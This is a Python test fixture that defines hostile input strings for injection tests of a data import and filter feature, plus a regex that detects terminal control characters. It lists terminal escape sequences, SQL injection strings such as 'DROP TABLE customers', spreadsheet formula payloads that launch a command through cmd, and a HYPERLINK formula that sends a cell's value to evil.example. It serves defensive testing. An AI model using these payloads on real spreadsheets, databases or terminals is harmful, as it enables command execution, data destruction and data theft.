"""Hostile text for the injection tests: values that look like SQL, spreadsheet formulas, or terminal commands.

Each value is distinct without regard to case (the `=` filter ignores case) and has no surrounding spaces (import
trims cells), so that "a filter NAME=<value> finds exactly that record" is a fair test.
"""

from __future__ import annotations

import re

ESCAPES = (
    "\x1b[31mRED\x1b[0m",  # recolour
    "\x1b[2J\x1b[Hcleared",  # clear the screen, cursor home
    "\x1b]0;owned title\x07",  # set the window title (OSC ... BEL)
    "\x9b31mC1 CSI",  # the one-character CSI of 8-bit terminals
    "bell\x07back\x08space\x7fdel",
    "\x1bP+q544e\x1b\\dcs",  # a device control string (terminal queries)
)
SQL = (
    'O\'Brien "Bob"; DROP TABLE customers; --',
    "x' OR '1'='1",
    "/* comment */ Ltd",
    "a--b;c",
    "100% _wild*card?",
    "back\\slash \\x1b",
    "k~v a<b c>d e!=f",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
)
HOSTILE = ESCAPES + SQL + FORMULAS

# Control characters a terminal may act on: every C0 but line break and tab, DEL, and the C1 range.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
